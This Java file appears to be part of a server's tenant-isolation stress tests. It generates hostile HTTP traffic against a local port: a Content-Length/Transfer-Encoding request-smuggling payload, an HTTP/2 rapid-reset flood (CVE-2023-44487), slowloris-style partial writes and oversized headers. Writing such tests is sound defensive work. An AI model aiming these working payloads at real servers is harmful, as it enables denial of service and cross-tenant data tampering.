package dev.drover.opensearch.torture;

import dev.drover.engine.torture.Flood;
import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;

/// Requests that mean harm. They are for a document that nobody else uses.
final class HostileRequests {
  private static final int HALF_BYTES = 1_000_000;
  private static final int ASKED = 20_000;
  private static final int HEADER_BYTES = 2_000_000;
  private static final int CONNECTIONS = 4;
  private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

  private HostileRequests() {}

  /// How they harm.
  private enum Manner {
    /// Half of a large write, whose rest never comes.
    HALF_A_WRITE,
    /// Far more reads than answers are taken.
    ASKS_WITHOUT_READING,
    /// A header that never ends.
    ENDLESS_HEADER,
    /// A body whose length is said in two ways, with a write of another tenant in it.
    SMUGGLED_WRITE,
    /// Half a bulk, in pieces.
    HALF_A_BULK,
    /// Streams of HTTP/2 that are taken back as soon as they are begun.
    RAPID_RESET
  }

  static void strike(int port, String tenant, int drawn, Duration lasts)
      throws InterruptedException {
    Manner[] manners = Manner.values();
    Manner manner = manners[drawn / 7 % manners.length];
    Flood.send(port, bytes(manner, tenant), CONNECTIONS, lasts);
  }

  private static byte[] bytes(Manner manner, String tenant) {
    String document = "/" + TenantTortureKit.INDEX + "/_doc/hostile";
    return switch (manner) {
      case HALF_A_WRITE ->
          ascii(
              head("PUT", document, tenant)
                  + "content-type: application/json\r\ncontent-length: %d\r\n\r\n"
                      .formatted(2 * HALF_BYTES)
                  + "{\"v\":1".repeat(HALF_BYTES / 6));
      case ASKS_WITHOUT_READING -> ascii((head("GET", document, tenant) + "\r\n").repeat(ASKED));
      case ENDLESS_HEADER ->
          ascii(head("GET", document, tenant) + "x-more: " + "x".repeat(HEADER_BYTES));
      case SMUGGLED_WRITE -> ascii(smuggled(document, tenant));
      case HALF_A_BULK ->
          ascii(
              head("POST", "/" + TenantTortureKit.INDEX + "/_bulk", tenant)
                  + "content-type: application/x-ndjson\r\ntransfer-encoding: chunked\r\n\r\n"
                  + piece("{\"index\":{\"_id\":\"hostile\"}}\n{\"v\":1}\n").repeat(1_000));
      case RAPID_RESET -> resets();
    };
  }

  private static String head(String method, String path, String tenant) {
    return "%s %s HTTP/1.1\r\nhost: x\r\nx-tenant: %s\r\n".formatted(method, path, tenant);
  }

  /// Who believes the length sees one request, who believes the chunks sees two.
  private static String smuggled(String document, String tenant) {
    String inner =
        head("PUT", document, tenant)
            + "content-type: application/json\r\ncontent-length: 7\r\n\r\n{\"v\":1}";
    String body = "0\r\n\r\n" + inner;
    return head("POST", document, tenant)
        + "content-type: application/json\r\ncontent-length: %d\r\ntransfer-encoding: chunked\r\n\r\n%s"
            .formatted(body.length(), body);
  }

  private static String piece(String text) {
    return Integer.toHexString(text.length()) + "\r\n" + text + "\r\n";
  }

  /// RFC 9113: SETTINGS, then HEADERS and RST_STREAM for each stream (CVE-2023-44487).
  private static byte[] resets() {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(ascii(PREFACE));
    out.writeBytes(frame(4, 0, 0, new byte[0]));
    // :method GET, :scheme http, :path /, :authority "x", each from the static table (RFC 7541 A).
    byte[] fields = {(byte) 0x82, (byte) 0x86, (byte) 0x84, 0x41, 1, 'x'};
    byte[] cancel = {0, 0, 0, 8};
    for (int stream = 1; stream < ASKED; stream += 2) {
      out.writeBytes(frame(1, 0x5, stream, fields));
      out.writeBytes(frame(3, 0, stream, cancel));
    }
    return out.toByteArray();
  }

  private static byte[] frame(int type, int flags, int stream, byte[] body) {
    ByteBuffer frame = ByteBuffer.allocate(9 + body.length);
    frame.put((byte) 0).putShort((short) body.length).put((byte) type).put((byte) flags);
    return frame.putInt(stream).put(body).array();
  }

  private static byte[] ascii(String text) {
    return text.getBytes(StandardCharsets.US_ASCII);
  }
}
